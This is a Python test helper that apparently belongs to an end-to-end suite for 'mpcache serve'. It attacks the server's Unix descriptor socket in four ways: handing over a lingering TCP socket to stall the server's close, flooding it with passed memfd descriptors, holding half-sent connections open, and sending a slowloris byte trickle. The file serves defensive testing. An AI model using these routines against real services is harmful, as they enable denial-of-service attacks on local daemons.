#!/usr/bin/env python3
"""The attacker of the descriptor socket (issue 24 items 2, 8, 9, 11), for test/e2e/fdSocketAttacks.test.ts.

A local process doing to `mpcache serve`'s descriptor socket what the issue reports: Python's standard library
only (socket.send_fds: 3.9+), so that it can run as another uid (`--uid N`: setgroups/setgid/setuid, as root).
Each command prints JSON lines on stdout (flushed); commands that must keep something alive (a lingering
socket's peer, held connections) then wait for stdin to close.

  linger SOCKET PAYLOAD_HEX [--nested] [--attempts N]
      a TCP socket with unsent data and SO_LINGER {1, 3600} (its peer a listener that never reads), handed
      over in one framed request (PAYLOAD_HEX: the MessagePack map) — or, with --nested, a socketpair end whose
      receive queue holds that socket in SCM_RIGHTS. The attacker's last copy is closed microseconds after the
      send, so that the server holds the last reference (pass_from_child). Up to N attempts (default 1) until
      one landed: its sendmsg succeeded (the descriptors sat in the server's socket, read or not) and the server,
      not the attacker, let go last (had the server been faster, the attacker's close is the one that waits:
      the attempt tested nothing and is made again). Also measures a control: closing an identical socket with
      SO_LINGER {1, 1} here (`control_close_ms`), which shows what a close on the server would wait.
  fds SOCKET PAYLOAD_HEX COUNT PER_SEND NAME
      one memfd named NAME passed COUNT times on one connection, PER_SEND per sendmsg (at most 253, the
      kernel's SCM_MAX_FD), each sendmsg carrying the next bytes of the frame.
  hold SOCKET N [--reopen SECONDS]
      N connections that send a 4-byte length and nothing more; with --reopen, every one the server closes is
      opened again, for SECONDS (or until stdin closes). Reports what the server answered.
  slowloris SOCKET INTERVAL_MS
      one connection that sends a request's length and then one byte every INTERVAL_MS, until the server cuts it.
"""
import ctypes
import json
import os
import select
import signal
import socket
import struct
import sys
import threading
import time


def out(**event):
    sys.stdout.write(json.dumps(event) + "\n")
    sys.stdout.flush()


def address(path):
    return "\0" + path[1:] if path.startswith("@") else path


def connect(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(address(path))
    return s


def frame(payload):
    return struct.pack(">I", len(payload)) + payload


def read_reply(s, timeout=20.0):
    """The server's framed reply as hex, or None when it closed without one."""
    s.settimeout(timeout)
    data = b""
    try:
        while len(data) < 4 or len(data) < 4 + struct.unpack(">I", data[:4])[0]:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except (ConnectionResetError, socket.timeout):
        pass
    if len(data) < 4 or len(data) < 4 + struct.unpack(">I", data[:4])[0]:
        return None
    return data[4:4 + struct.unpack(">I", data[:4])[0]].hex()


def wait_for_stdin():
    sys.stdin.read()


def lingering(seconds):
    """A connected TCP socket whose send buffer is full (its peer never reads) with SO_LINGER {1, seconds}."""
    peer = socket.socket()
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    peer.bind(("127.0.0.1", 0))
    peer.listen(1)
    t = socket.socket()
    t.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    t.connect(peer.getsockname())
    t.setblocking(False)
    queued = 0
    try:
        while True:
            queued += t.send(b"x" * 65536)
    except BlockingIOError:
        pass
    t.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, seconds))
    return peer, t, queued


def sleeping_in_close(pid):
    """Whether process `pid` sleeps inside close(2) (syscall 3 on x86-64, the machines the suite runs on): what a
    close that lingers looks like; nothing else the child does between its send and its write sleeps there.
    Read from /proc/PID/syscall and /proc/PID/stat."""
    try:
        with open(f"/proc/{pid}/syscall") as f:
            nr = f.read().split()[0]
        with open(f"/proc/{pid}/stat") as f:
            state = f.read().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError, IndexError):
        return False  # exited (or exiting): it did not linger
    return nr == "3" and state in ("S", "D")


def pass_from_child(path, payload, passed):
    """Connects to `path` and sends `passed` from a child process that closes its copy right after the send,
    before the server can even accept, so that the server, not this process, holds the last reference (this
    process closes its own copy before the child starts). Returns (outcome, connected, reply hex or None):
    "sent"; "refused" when the send failed (the server had closed the connection); "ours_last" when the
    child's close lingered (the server had let go first: the attempt tested nothing), and it was killed, which
    ends a lingering close at once. Which of the two happened is read from the child itself (it reports that
    its close returned, or it is seen sleeping inside close(2)), never guessed from how long it took, so a
    busy machine decides it as a quiet one does."""
    r, w = os.pipe()
    go_r, go_w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        os.close(go_w)
        os.read(go_r, 1)
        s = connect(path)
        os.write(w, b"C")
        code = b"S"
        try:
            socket.send_fds(s, [frame(payload)], [passed.fileno()])
        except (BrokenPipeError, ConnectionResetError):
            code = b"R"
        os.close(passed.fileno())
        os.write(w, code)  # closed without waiting: the server holds the last reference
        os.write(w, (read_reply(s) or "").encode())
        os._exit(0)
    os.close(w)
    os.close(go_r)
    passed.close()  # the child's copy is the attacker's only one now
    os.write(go_w, b"x")
    os.close(go_w)
    data = b""
    hang = time.monotonic() + 120  # a bound on a hang only: the child answers or is seen lingering long before
    while len(data) < 2:
        ready, _, _ = select.select([r], [], [], 0.01)
        if ready:
            chunk = os.read(r, 65536)
            if not chunk:
                break
            data += chunk
        elif data[:1] == b"C" and sleeping_in_close(pid) or time.monotonic() > hang:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
            os.close(r)
            return "ours_last", True, None
    if len(data) < 2:  # the child died before its close returned: nothing was tested
        os.waitpid(pid, 0)
        os.close(r)
        return "ours_last", data[:1] == b"C", None
    while True:
        chunk = os.read(r, 65536)
        if not chunk:
            break
        data += chunk
    os.close(r)
    os.waitpid(pid, 0)
    return ("sent" if data[1:2] == b"S" else "refused"), True, (data[2:].decode() or None)


def cmd_linger(path, payload_hex, nested, attempts):
    # The control: a close here of the same kind of socket waits its linger (1 s), so the server's would too.
    control_peer, control, _ = lingering(1)
    started = time.monotonic()
    control.close()
    control_close_ms = (time.monotonic() - started) * 1000
    peers, inodes, landed, tried, connects, replies, outcomes = [], [], 0, 0, 0, [], []
    # An attempt lands when its send went through and the server dropped the last reference to the lingering
    # socket (pass_from_child); otherwise it is made again.
    while tried < attempts and landed == 0:
        tried += 1
        peer, t, queued = lingering(3600)
        peers.append(peer)
        inodes.append(os.fstat(t.fileno()).st_ino)
        passed = t
        if nested:
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            socket.send_fds(a, [b"x"], [t.fileno()])
            t.close()  # the socketpair's queue holds it now
            a.close()
            passed = b
            inodes.append(os.fstat(b.fileno()).st_ino)
        outcome, connected, reply = pass_from_child(path, bytes.fromhex(payload_hex), passed)
        outcomes.append(outcome)
        connects += 1 if connected else 0
        landed += 1 if outcome == "sent" else 0
        replies.append(reply)
    out(event="passed", landed=landed, attempts=tried, connects=connects, inodes=inodes, queued=queued, replies=replies,
        outcomes=outcomes, control_close_ms=control_close_ms)
    wait_for_stdin()
    for p in peers + [control_peer]:
        p.close()


def cmd_fds(path, payload_hex, count, per_send, name):
    memfd = os.memfd_create(name, os.MFD_CLOEXEC | os.MFD_ALLOW_SEALING)
    os.ftruncate(memfd, 4096)
    data = frame(bytes.fromhex(payload_hex))
    s = connect(path)
    sent_fds, sent_bytes, error = 0, 0, None
    while sent_fds < count:
        n = min(per_send, count - sent_fds)
        # One byte of the frame per sendmsg: the request is complete only after the last one.
        chunk = data[sent_bytes:sent_bytes + 1] if sent_fds + n < count else data[sent_bytes:]
        try:
            socket.send_fds(s, [chunk], [memfd] * n)
        except OSError as e:
            error = type(e).__name__
            break
        sent_fds += n
        sent_bytes += len(chunk)
    out(event="sent", sent_fds=sent_fds, sent_bytes=sent_bytes, error=error, reply=read_reply(s))
    s.close()
    os.close(memfd)


def cmd_hold(path, n, reopen_seconds):
    stop = threading.Event()
    threading.Thread(target=lambda: (wait_for_stdin(), stop.set()), daemon=True).start()
    end = time.monotonic() + (reopen_seconds if reopen_seconds is not None else 3600)
    replies = {}
    opened = 0
    conns = []

    def open_one():
        nonlocal opened
        s = connect(path)
        opened += 1
        try:
            s.send(struct.pack(">I", 100))  # a request that never completes
        except OSError:
            pass  # refused and closed already: its answer is read below
        conns.append(s)

    for _ in range(n):
        open_one()
    out(event="opened", opened=opened)
    last = 0.0
    while not stop.is_set() and time.monotonic() < end:
        readable, _, _ = select.select(conns, [], [], 0.05) if conns else ([], [], time.sleep(0.05))
        for s in readable:
            reply = read_reply(s, timeout=1.0) or "none"
            replies[reply] = replies.get(reply, 0) + 1
            conns.remove(s)
            s.close()
            if reopen_seconds is not None:
                open_one()
        if readable and (reopen_seconds is None or time.monotonic() - last >= 0.5):
            out(event="holding", open=len(conns), opened=opened, replies=replies)
            last = time.monotonic()
    out(event="done", open=len(conns), opened=opened, replies=replies)
    for s in conns:
        s.close()


def cmd_slowloris(path, interval_ms):
    started = time.monotonic()
    s = connect(path)
    sent = 0
    s.send(struct.pack(">I", 100))
    sent += 4
    reply = None
    while time.monotonic() - started < 60:
        readable, _, _ = select.select([s], [], [], interval_ms / 1000)
        if readable:
            reply = read_reply(s, timeout=1.0)
            break
        try:
            s.send(b"x")
            sent += 1
        except OSError:
            break
    out(event="cut", after_ms=(time.monotonic() - started) * 1000, sent_bytes=sent, reply=reply)
    s.close()


def main(argv):
    args = list(argv)
    if "--uid" in args:
        i = args.index("--uid")
        uid = int(args[i + 1])
        gid = int(args[args.index("--gid") + 1]) if "--gid" in args else uid
        del args[i:i + 2]
        if "--gid" in args:
            j = args.index("--gid")
            del args[j:j + 2]
        os.setgroups([])
        os.setgid(gid)
        os.setuid(uid)
        # A change of uid makes the process undumpable, which puts its /proc files (and its children's) out of
        # its own reach; sleeping_in_close reads the child's. PR_SET_DUMPABLE (4) back to 1.
        ctypes.CDLL(None, use_errno=True).prctl(4, 1, 0, 0, 0)
    command = args[0]
    if command == "linger":
        attempts = int(args[args.index("--attempts") + 1]) if "--attempts" in args else 1
        cmd_linger(args[1], args[2], "--nested" in args, attempts)
    elif command == "fds":
        cmd_fds(args[1], args[2], int(args[3]), int(args[4]), args[5])
    elif command == "hold":
        cmd_hold(args[1], int(args[2]), float(args[args.index("--reopen") + 1]) if "--reopen" in args else None)
    elif command == "slowloris":
        cmd_slowloris(args[1], int(args[2]))
    else:
        raise SystemExit(f"unknown command {command}")


if __name__ == "__main__":
    main(sys.argv[1:])
